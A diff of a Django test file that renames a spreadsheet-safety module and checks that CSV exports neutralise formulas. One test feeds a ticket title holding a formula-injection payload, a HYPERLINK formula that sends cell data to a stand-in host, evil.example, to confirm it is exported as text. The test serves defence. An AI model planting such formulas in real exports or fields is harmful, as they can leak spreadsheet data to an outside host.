@@ -1,4 +1,4 @@
-"""CSV cells never reach a spreadsheet as formulas (helpdesk.spreadsheets)."""
+"""CSV cells never reach a spreadsheet as formulas (core.spreadsheets)."""
 
 import csv
 import io
@@ -8,8 +8,7 @@ from pathlib import Path
 import pytest
 from django.urls import reverse
 
-from helpdesk import spreadsheets
-from tests.tickets.conftest import contracts, make_ticket  # noqa: F401 - fixtures
+from core import spreadsheets
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -58,18 +57,18 @@ def test_every_csv_of_the_project_is_written_by_the_one_safe_writer():
         relative = path.relative_to(ROOT).as_posix()
         if relative.startswith((".venv/", "tests/", "node_modules/")):
             continue
-        if relative == "helpdesk/spreadsheets.py":
+        if relative == "core/spreadsheets.py":
             continue
         if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
             offenders.append(relative)
-    assert not offenders, f"CSV written without helpdesk.spreadsheets: {offenders}"
+    assert not offenders, f"CSV written without core.spreadsheets: {offenders}"
 
 
 @pytest.mark.django_db
 def test_a_customers_formula_title_reaches_the_managers_csv_as_text(
     client,
     personas,
-    make_ticket,  # noqa: F811
+    make_ticket,
 ):
     title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
     ticket = make_ticket(title=title)
